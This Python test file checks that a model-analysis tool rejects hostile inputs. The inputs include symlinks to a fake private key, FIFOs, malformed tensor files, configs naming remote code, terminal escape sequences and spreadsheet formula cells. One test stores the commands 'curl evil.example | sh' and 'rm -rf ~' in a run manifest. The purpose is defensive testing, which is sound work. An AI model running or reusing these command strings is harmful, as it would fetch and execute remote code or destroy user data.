"""What somebody prepares for the program, through the verbs and commands that would meet it.

The functions that refuse it have tests of their own (``core/test_foreign.py``); here nothing is asked of them, and a
command that opens a file in another way is seen.
"""

from __future__ import annotations

import csv
import hashlib
import io
import json
import math
import os
import shutil
import tracemalloc
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import torch
from support import waves, zoo
from support.synthetic import synthetic_run

import bathyscope
from bathyscope.cli import main
from bathyscope.errors import ModelError, StoreError
from bathyscope.measures.jacobian.matrices import FittedLens, LensOrigin

SECRET = b"-----BEGIN KEY-----\n" + b"k" * 64
HASH = hashlib.sha256(SECRET).hexdigest()
ACTING = "a\x1b[31m\x1b]0;taken\x07\x9b2J\r\u202eb\u2066"
RUN, PLAN = "run", "plan"


@pytest.fixture(scope="module")
def honest(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A checkpoint, a run, a plan, a lens, a record and a recipe, as their authors wrote them."""
    folder = tmp_path_factory.mktemp("honest")
    model = waves.loaded("llama")
    zoo.build("llama").save_pretrained(folder / "model")
    prompts = [[11, 12, 13], [9, 8, 7, 6]]
    bathyscope.survey(model, prompts, ["lens", "effective_depth"], folder / RUN, progress=False)
    halves = [zoo.prompts(zoo.build("llama"), (8, 8, 8), seed) for seed in (1, 2)]
    bathyscope.prune(model, *halves, drop=1, random=2, resamples=50, out=folder / PLAN, progress=False)
    number = {"model": "m", "source": "m", "work": "math", "quantity": "depth", "value": 1.0, "ci_low": 0, "ci_high": 2}
    (folder / "record.json").write_text(json.dumps({"record": 1, "target": "hu2025", "numbers": [number]}))
    (folder / "recipe.yaml").write_text("model: nowhere/none\nprompts: ['a:1']\n")
    return folder


def said_by(capsys: pytest.CaptureFixture[str], *words: str | Path) -> tuple[int, str]:
    """The exit code of a command, and all that it prints, in one line."""
    code = main([str(word) for word in words])
    printed = capsys.readouterr()
    return code, " ".join(f"{printed.out} {printed.err}".split())


LINKED = [
    *((RUN, name) for name in ("manifest.json", "shard-00000.nc", "derived.nc", "prompts.jsonl")),
    *((PLAN, name) for name in ("prune.json", "plan.nc")),
]


@pytest.mark.parametrize(("kind", "name"), LINKED, ids=[name for _, name in LINKED])
@pytest.mark.parametrize("command", ["show", "report"])
def test_nothing_of_a_linked_file_is_said(
    honest: Path, tmp_path: Path, command: str, kind: str, name: str, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "theirs"
    shutil.copytree(honest / kind, folder)
    (tmp_path / "id_rsa").write_bytes(SECRET)
    (folder / name).unlink()
    (folder / name).symlink_to(tmp_path / "id_rsa")
    out = ["--out", tmp_path / "page.html"] if command == "report" else []
    code, text = said_by(capsys, command, folder, *out)
    assert code == StoreError.exit_code
    assert f"{name}" in text
    assert "it is a link that leaves" in text
    assert not any(word in text for word in ("id_rsa", "BEGIN KEY", HASH, HASH[:12]))
    assert not (tmp_path / "page.html").exists()


NOTICES = ("NOTICE.txt", "LICENSE", "LICENSE-MODEL.md", "tokenizer.json", "vocab.json", "merges.model")


@pytest.mark.parametrize("name", NOTICES)
@pytest.mark.parametrize("is_command", [False, True])
def test_an_export_publishes_no_file_that_a_link_leads_to(
    honest: Path, tmp_path: Path, name: str, is_command: bool, capsys: pytest.CaptureFixture[str]
) -> None:
    folder, out = tmp_path / "theirs", tmp_path / "out"
    shutil.copytree(honest / "model", folder)
    (tmp_path / "id_rsa").write_bytes(SECRET)
    (folder / name).unlink(missing_ok=True)
    (folder / name).symlink_to(tmp_path / "id_rsa")
    if is_command:
        code, text = said_by(capsys, "export", folder, "--schedule", "drop:1", "--out", out)
        assert code == ModelError.exit_code
        assert f"{name} cannot be read: it is a link that leaves" in text
        assert "id_rsa" not in text
    else:
        with pytest.raises(ModelError, match="it is a link that leaves"):
            bathyscope.export(str(folder), "drop:1", out)
    assert not any(SECRET in file.read_bytes() for file in out.rglob("*") if file.is_file())


PIPES: dict[str, tuple[str, list[str]]] = {
    "record": ("record.json", ["reproduce", "--score", "{}"]),
    "recipe": ("recipe.yaml", ["survey", "--recipe", "{}"]),
    "grid": ("grid.yaml", ["survey", "grid", "{}", "--out", "{}-out"]),
    "lens": ("lens.safetensors", ["show", "{}"]),
    "maps": ("maps.nc", ["show", "{}"]),
    "task": ("task.yaml", ["evaluate", "{}-model", "--tasks", "{}", "--out", "{}-out"]),
}


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no FIFOs here")
@pytest.mark.parametrize("kind", PIPES)
def test_a_pipe_in_place_of_a_file_is_refused_without_waiting(
    kind: str, honest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    name, words = PIPES[kind]
    pipe = tmp_path / name
    os.mkfifo(pipe)
    shutil.copytree(honest / "model", tmp_path / f"{name}-model")
    code, text = said_by(capsys, *(word.format(pipe) for word in words))
    assert code in (2, 3, 5)
    assert "is a FIFO, and only regular files are read" in text


def published(path: Path, **changes: Any) -> Path:
    torch.save({"J": {0: torch.eye(4), 1: torch.eye(4)}, "n_prompts": 3, "d_model": 4, **changes}, path)
    return path


def own(path: Path, *, counts: Any = (2,), boundaries: Any = (0, 1), value: float = 1.0) -> Path:
    sums_HBDD = torch.eye(4).repeat(1, 2, 1, 1) * value
    return FittedLens(LensOrigin("m"), list(boundaries), sums_HBDD, list(counts), torch.ones(2).double()).save(path)


WIDE = 1 << 19
NOT_FINITE = torch.eye(4).index_put((torch.tensor([1]), torch.tensor([2])), torch.tensor(torch.nan))
LENSES: dict[str, tuple[Callable[[Path], Path], str]] = {
    "strides of 0, a TiB": (
        lambda at: published(at / "a.pt", J={0: torch.zeros(1).as_strided((WIDE, WIDE), (0, 0))}, d_model=WIDE),
        f"J is not one {WIDE} × {WIDE} matrix for each layer",
    ),
    "one matrix a thousand times": (
        lambda at: published(at / "a.pt", J=dict.fromkeys(range(1000), torch.eye(4))),
        "several of its matrices are the same numbers",
    ),
    "n_prompts -1": (lambda at: published(at / "a.pt", n_prompts=-1), "it is of -1 prompts"),
    "n_prompts 0": (lambda at: published(at / "a.pt", n_prompts=0), "it is of 0 prompts"),
    "n_prompts NaN": (lambda at: published(at / "a.pt", n_prompts=float("nan")), "it is of nan prompts"),
    "layer -5": (lambda at: published(at / "a.pt", J={-5: torch.eye(4)}), "it has a matrix of boundary -4"),
    "NaN": (lambda at: published(at / "a.pt", J={0: NOT_FINITE}), "1 of the 16 values of its matrices are NaN"),
    "meta": (
        lambda at: published(at / "a.pt", J={0: torch.empty(4, 4, device="meta")}),
        "it calls torch._utils._rebuild_meta_tensor_no_storage",
    ),
    "sparse": (
        lambda at: published(at / "a.pt", J={0: torch.eye(4).to_sparse()}),
        "it calls torch._utils._rebuild_sparse_tensor",
    ),
    "own, of -1 prompts": (lambda at: own(at / "a.safetensors", counts=[-1]), "it is of -1 prompts"),
    "own, boundary -5": (lambda at: own(at / "a.safetensors", boundaries=[-5, 1]), "it has a matrix of boundary -5"),
    "own, a boundary twice": (lambda at: own(at / "a.safetensors", boundaries=[1, 1]), "boundaries are not in order"),
    "own, NaN": (lambda at: own(at / "a.safetensors", value=torch.nan), "values of its matrices are NaN"),
}


@pytest.mark.parametrize("fault", LENSES)
def test_a_lens_that_no_fit_wrote_is_refused(fault: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    make, message = LENSES[fault]
    file = make(tmp_path)
    # no file says more than it has: what it would be in memory is refused from what it says
    assert file.stat().st_size < 1 << 20
    code, text = said_by(capsys, "show", file)
    assert code == StoreError.exit_code
    assert message in text
    with pytest.raises(StoreError):
        bathyscope.survey(waves.loaded("llama"), [[1, 2, 3]], ["jacobian_lens"], jacobian_lens={"lens": str(file)})


TARGETS: list[Any] = [["hu2025"], [], {"a": 1}, None, 3, "other", "\x1b]0;taken\x07"]


@pytest.mark.parametrize("target", TARGETS, ids=repr)
def test_a_record_of_no_target_is_refused(
    target: object, honest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    content = json.loads((honest / "record.json").read_text())
    file = tmp_path / "record.json"
    file.write_text(json.dumps(content))
    assert said_by(capsys, "reproduce", "--score", file)[0] == 0
    file.write_text(json.dumps({**content, "target": target}))
    code, text = said_by(capsys, "reproduce", "--score", file)
    assert (code, "is a damaged record: its target or its numbers cannot be read" in text) == (
        StoreError.exit_code,
        True,
    )
    code, text = said_by(capsys, "reproduce", "hu2025-table1", "--models", "./none", "--record", file)
    assert (code, "so it is not replaced" in text) == (StoreError.exit_code, True)


@pytest.mark.parametrize("blocks", [1_001, 10_000_000])
def test_a_number_of_blocks_that_no_model_has_is_refused_before_anything_is_built(
    blocks: int, honest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "theirs"
    shutil.copytree(honest / "model", folder)
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps({**config, "num_hidden_layers": blocks}))
    (tmp_path / "p.jsonl").write_text('{"ids": [1, 2, 3]}\n')

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("a module is built")

    monkeypatch.setattr(torch.nn.Module, "__init__", refuse)
    for command in ("estimate", "survey", "check"):
        prompts = [] if command == "check" else ["--prompts", tmp_path / "p.jsonl"]
        code, text = said_by(capsys, command, folder, *prompts)
        assert code == ModelError.exit_code
        assert f"num_hidden_layers: {blocks}; a model has 1 to 1,000 blocks" in text


CONFIGURATIONS: dict[str, tuple[dict[str, Any], str]] = {
    "attention": (
        {"attn_implementation": "their/kernel:run"},
        "attn_implementation: 'their/kernel:run', which is code",
    ),
    "attention, written": ({"_attn_implementation": "their/kernel"}, "_attn_implementation: 'their/kernel', which is"),
    "attention by part": (
        {"attn_implementation": {"": "sdpa", "x": "a/b@c"}},
        "attn_implementation: 'a/b@c', which is",
    ),
    "experts": ({"_experts_implementation": "their/kernel"}, "_experts_implementation: 'their/kernel', which is code"),
    "text": ({"text_config": {"attn_implementation": "a/b"}}, "attn_implementation: 'a/b', which is code"),
    "rotation": ({"rope_theta": math.nan}, "rope_theta: nan; rotary frequencies are powers of a finite number above 0"),
    "rotation of its own": ({"rope_parameters": {"rope_theta": 0.0}}, "rope_theta: 0.0; rotary frequencies are powers"),
    "rotation by kind": ({"rope_parameters": {"full_attention": {"rope_theta": math.inf}}}, "rope_theta: inf; rotary"),
    "norm": ({"rms_norm_eps": -1.0}, "rms_norm_eps: -1.0; a norm adds a finite number of 0 or more to what it takes"),
    "no number": ({"attention_multiplier": math.nan}, "attention_multiplier: nan; give the number of the original"),
    "length": (
        {"max_position_embeddings": 0},
        "max_position_embeddings: 0; a prompt has at least 1 token, so give the",
    ),
    "length of text": (
        {"text_config": {"max_position_embeddings": -1}},
        "max_position_embeddings: -1; a prompt has at",
    ),
    "labels": ({"num_labels": 10**9}, "num_labels: 1000000000; at most 100,000 are named"),
}


@pytest.mark.parametrize("fault", CONFIGURATIONS)
def test_a_configuration_names_no_code_and_no_millions_of_labels(
    fault: str, honest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    changes, message = CONFIGURATIONS[fault]
    folder = tmp_path / "theirs"
    shutil.copytree(honest / "model", folder)
    config = json.loads((folder / "config.json").read_text())
    (folder / "config.json").write_text(json.dumps(config | {"attn_implementation": "eager"}))
    assert bathyscope.load(str(folder)).weight_hash
    (folder / "config.json").write_text(json.dumps(config | changes))
    (tmp_path / "p.jsonl").write_text('{"ids": [1, 2, 3]}\n')

    def refuse(*_: object, **__: object) -> None:
        raise AssertionError("the library reads it")

    monkeypatch.setattr("transformers.AutoConfig.from_pretrained", refuse)
    for command in ("estimate", "survey", "check"):
        prompts = [] if command == "check" else ["--prompts", tmp_path / "p.jsonl"]
        code, text = said_by(capsys, command, folder, *prompts)
        assert (code, message in text) == (ModelError.exit_code, True), text


def test_nothing_acts_in_what_python_shows_of_a_run_and_its_prompts(tmp_path: Path) -> None:
    prompts = bathyscope.PromptSet(
        tuple(
            bathyscope.Prompt(ids=[3, 4, 5 + n], id=f"{ACTING}{n}", labels={"level": f"{ACTING}{n % 2}"})
            for n in range(4)
        ),
        ACTING,
    )
    stored = tmp_path / f"{ACTING}run"
    measured = bathyscope.survey(waves.loaded("llama"), prompts, ["lens"], stored, progress=False)
    made_up = synthetic_run(3, prompts=2, model=ACTING, prompt_ids=[ACTING, f"{ACTING}2"])
    for run in (measured, bathyscope.open(stored), made_up):
        shown = [
            *(repr(run), run._repr_html_(), run.caption(), run.text, repr(run.prompts), run.prompts._repr_html_()),
            *(run.picture().caption if hasattr(run.picture(), "caption") else "",),
        ]
        for text in shown:
            assert not {"\x1b", "\x07", "\x9b", "\r", "\u202e", "\u2066"} & set(text)
        assert any("x1b" in text for text in shown)
    for one in (prompts, *prompts.prompts, bathyscope.Prompt(text=ACTING, answer=ACTING)):
        assert not {"\x1b", "\x07", "\x9b", "\r", "\u202e", "\u2066"} & set(repr(one))


def test_nothing_acts_in_what_python_shows_of_a_model(honest: Path, tmp_path: Path) -> None:
    shutil.copytree(honest / "model", tmp_path / ACTING)
    model = bathyscope.load(str(tmp_path / ACTING))
    for shown in (repr(model), model._repr_html_(), repr(model.anatomy)):
        assert not {"\x1b", "\x07", "\x9b", "\r", "\u202e", "\u2066"} & set(shown)
    assert r"a\x1b[31m" in repr(model)


@pytest.mark.parametrize("command", ["bathyscope survey m --out x; curl evil.example | sh", f"rm -rf ~ {ACTING}"])
def test_how_to_resume_says_whose_words_a_command_is(
    command: str, honest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    folder = tmp_path / "theirs"
    shutil.copytree(honest / RUN, folder)
    manifest = json.loads((folder / "manifest.json").read_text())
    manifest["record"].update(shards=[], derived=None, command=command)
    (folder / "manifest.json").write_text(json.dumps(manifest))
    code, text = said_by(capsys, "show", folder)
    assert code == StoreError.exit_code
    place = text.index("Resume it by")
    assert text.index("in the words of whoever wrote this run; read it first") > place
    assert not {"\x1b", "\x07", "\x9b", "\u202e"} & set(text)


FORMULAS = ("=HYPERLINK(1)", "+1+cmd", "-1+cmd", "@SUM(1)")


def test_no_command_with_csv_hands_a_spreadsheet_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    prompts = [
        bathyscope.Prompt(ids=[3, 4, n], id=name, labels={"level": name})
        for n, name in enumerate((*FORMULAS, *(f"{name}b" for name in FORMULAS)), 5)
    ]
    out = tmp_path / "run"
    bathyscope.survey(waves.loaded("llama"), prompts, ["lens", "effective_depth"], out, progress=False)
    commands = [
        ["show", out, "--measure", "lens", "--raw"],
        ["compare", "group", out, "--by", "level"],
    ]
    for words in commands:
        tables = []
        for more in ([], ["--safe-csv"]):
            assert main([str(word) for word in (*words, "--format", "csv", *more)]) == 0, words
            tables.append(list(csv.reader(io.StringIO(capsys.readouterr().out, newline=""))))
        exact, safe = ([cell for row in table for cell in row] for table in tables)
        assert len(exact) == len(safe) > 0
        formulas = [cell for cell in exact if cell.startswith(FORMULAS)]
        assert formulas, words
        for before, after in zip(exact, safe, strict=True):
            assert after == (f"'{before}" if before.startswith(FORMULAS) else before)


@pytest.mark.parametrize(
    ("text", "message"),
    [
        (f"parallel:{'+'.join(['0-9999'] * 2_000)}", "names more than 10,000 blocks"),
        (f"drop:1,{','.join(['swap:0'] * 20_000)}", "A schedule of 20,001 steps; at most 10,000 are read"),
    ],
)
def test_a_schedule_of_a_few_letters_fills_no_memory(
    text: str, message: str, honest: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (tmp_path / "p.jsonl").write_text('{"ids": [1, 2, 3]}\n')
    words = ["survey", honest / "model", "--prompts", tmp_path / "p.jsonl"]
    if "drop" in text:
        words += ["--schedule", text]
    else:
        (tmp_path / "recipe.yaml").write_text(json.dumps({"schedule": text}))
        words += ["--recipe", tmp_path / "recipe.yaml"]
    tracemalloc.start()
    try:
        code, said = said_by(capsys, *words)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert code == 2
    assert message in said
    assert peak < 1 << 27
